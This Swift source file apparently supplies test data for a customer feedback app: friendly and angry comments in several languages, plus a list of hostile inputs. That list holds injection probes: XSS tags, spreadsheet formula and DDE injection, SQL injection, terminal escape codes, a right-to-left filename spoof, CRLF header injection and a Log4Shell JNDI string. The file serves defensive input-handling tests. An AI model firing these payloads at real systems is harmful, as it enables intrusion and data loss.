/// What customers type: kind and angry words in several scripts, and some that were typed to do harm.
enum Comments {
    /// After the three best faces.
    static let kind = [
        "Friendly staff, short wait.", "All good, thank you!", "Təşəkkürlər, hər şey əla idi.", "Çox razı qaldım 🙂",
        "خدمة ممتازة وموظفون لطفاء", "Super Beratung, gerne wieder.", "Très bien, merci à l'équipe.",
        "Спасибо, всё быстро.", "とても親切でした。", "More parking would be nice.",
    ]

    /// After the two worst.
    static let angry = [
        "I waited too long at the counter, nobody told me why.", "Two of five counters were open.",
        "The prices on the shelf were not those at the till.", "Kassada çox gözlədim.", "İşçi kobud danışdı.",
        "انتظرت أكثر من نصف ساعة", "Die Toilette war schmutzig, schon wieder.", "Очередь стояла до дверей.",
        "服务员态度不好，等了很久。", "I want a refund and an explanation.\nThis was the third time.",
    ]

    /// Typed by somebody who hopes that a page, a spreadsheet, a log or a terminal takes text for more than text.
    static let hostile = [
        "<script>alert('visit')</script>", "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://example.test\",\"open\")",
        "+SUM(1+1)*cmd|' /C calc'!A0", "@here -2+3", "'; DROP TABLE response; --", "{{#branches}}{{name}}{{/branches}}",
        "\u{1B}[2J\u{1B}[31mgone\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{202E}txt.exe", "first\r\nSet-Cookie: a=b",
        "${jndi:ldap://example.test/a}", "quote \" comma , semicolon ;", "\u{0}\u{1}\u{7F}",
    ]

    static let all = kind + angry + hostile
}
